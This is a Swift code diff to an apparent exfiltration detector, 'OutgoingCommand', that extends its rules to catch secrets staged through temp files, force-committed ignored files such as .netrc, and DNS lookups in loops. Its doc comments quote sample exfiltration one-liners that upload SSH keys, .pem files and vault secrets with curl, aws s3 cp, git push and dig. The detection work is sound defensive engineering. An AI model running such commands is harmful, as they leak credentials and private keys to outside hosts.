@@ -132,6 +132,7 @@ struct OutgoingCommand {
       let isWritten = text[line].contains(">&") || before.ends(with: "> /") || before.ends(with: ">/")
       return isWritten && sources(in: line).contains { $0.kind.isOfShell }
     }
+    if name == "git push" { return isForced(command) }
     if let upstream = command.upstream, arrives(from: upstream) {
       if Self.streams.contains(name) { return true }
       if Self.clients.contains(name), Self.bodies.contains(where: { arguments.contains($0) }) { return true }
@@ -160,7 +161,41 @@ struct OutgoingCommand {
       }
       if name == "http" || name == "xh", before.contains("<") { return true }
     }
-    return isLooped(command) || isFound(command) || isSpelled(command)
+    return isKept(command) || isLooped(command) || isFound(command) || isSpelled(command)
+  }
+
+  /// `vault kv get x > /tmp/s && aws s3 cp /tmp/s s3://…`: by way of a file.
+  private func isKept(_ command: Command) -> Bool {
+    guard
+      Self.clients.contains(text[command.name]) || Self.copiers.contains(text[command.name])
+        || isStore(command)
+        || Self.streams.contains(text[command.name])
+    else { return false }
+    let line = command.line.lowerBound..<command.name.lowerBound
+    var from = line.lowerBound
+    while let sign = text[..<line.upperBound].firstIndex(of: 0x3E, from: from) {
+      from = sign + 1
+      var start = from
+      while text.at(start) == 0x20 { start += 1 }
+      var end = start
+      while end < line.upperBound, text[end] > 0x20, text[end] != 0x3B, text[end] != 0x26 { end += 1 }
+      guard end - start >= 4, text[start] == 0x2F || text[start] == 0x7E || text[start] == 0x2E,
+        text[command.arguments].contains(text[start..<end].string),
+        sources(in: line.lowerBound..<sign).contains(where: { $0.kind == .output || $0.kind == .file })
+      else { continue }
+      return true
+    }
+    return false
+  }
+
+  /// `git add -f .netrc && git commit … && git push`: what is left out of a repository for a reason.
+  private func isForced(_ command: Command) -> Bool {
+    let before = command.line.lowerBound..<command.name.lowerBound
+    guard
+      let add = text[before.lowerBound..<before.upperBound].firstRange(of: "git add -f ")
+        ?? text[before.lowerBound..<before.upperBound].firstRange(of: "git add --force ")
+    else { return false }
+    return sources(in: before.lowerBound + add.upperBound..<before.upperBound).contains { $0.kind == .file }
   }
 
   /// `find ~ -name '*.pem' -exec curl -F f=@{} …`
@@ -177,7 +212,9 @@ struct OutgoingCommand {
 
   /// `… | while read l; do dig $l.somewhere.net; done`
   private func isSpelled(_ command: Command) -> Bool {
-    guard Self.resolvers.contains(text[command.name]), holdsNamedPart(command) else { return false }
+    guard Self.resolvers.contains(text[command.name]),
+      holdsNamedPart(command) || Strangers.holdsDottedEnd(text[command.arguments])
+    else { return false }
     let line = command.line.lowerBound..<lineEnd(command.line.upperBound)
     return text[line].contains("read ") && sources(in: line).contains { $0.kind.isOfShell }
   }
@@ -222,13 +259,14 @@ struct OutgoingCommand {
     var start = source.range.lowerBound
     while start > 0, text[start - 1] > 0x20 { start -= 1 }
     let option = text[max(0, start - 20)..<start]
+    if text[start..<source.range.lowerBound].contains("--exclude=") { return true }
     return Self.logins.contains { option.ends(with: $0) }
   }
 
   private static let logins: [StaticString] = [
     "-i ", "--netrc-file ", "--cert ", "--key ", "-E ", "-o ", "-O ", "-K ", "--config ", "-b ", "-c ",
     "--identity ",
-    "--kubeconfig ", "--env-file ", "--output ", "--private-key ",
+    "--exclude ", "--ignore ", "-x ", "--kubeconfig ", "--env-file ", "--output ", "--private-key ",
   ]
 
   /// `@FILE`, `-T FILE`, `--post-file=FILE`, `e@FILE`
@@ -277,7 +315,9 @@ struct OutgoingCommand {
   /// `for k in ~/.ssh/*; do curl -F f=@$k …`
   private func isLooped(_ command: Command) -> Bool {
     let before = text[command.line.lowerBound..<command.name.lowerBound]
-    guard Self.clients.contains(text[command.name]) || Self.copiers.contains(text[command.name]),
+    guard
+      Self.clients.contains(text[command.name]) || Self.copiers.contains(text[command.name])
+        || Self.resolvers.contains(text[command.name]),
       let loop = before.firstRange(of: "for "), before[loop.upperBound...].contains(" in "),
       let source = sources(in: command.line.lowerBound..<command.name.lowerBound).first, source.kind.isOfShell
     else { return false }
@@ -302,7 +342,7 @@ struct OutgoingCommand {
       return at > 1 && ASCII.isAlphanumeric(arguments[at - 1])
         && arguments.at(at + 1).map(ASCII.isAlphanumeric) == true
     }
-    if name == "gh" || name == "glab" { return true }
+    if name == "gh" || name == "glab" || name == "git push" { return true }
     if Self.streams.contains(name) || Self.copiers.contains(name) || Self.speakers.contains(name),
       Strangers.holdsHost(arguments)
     {
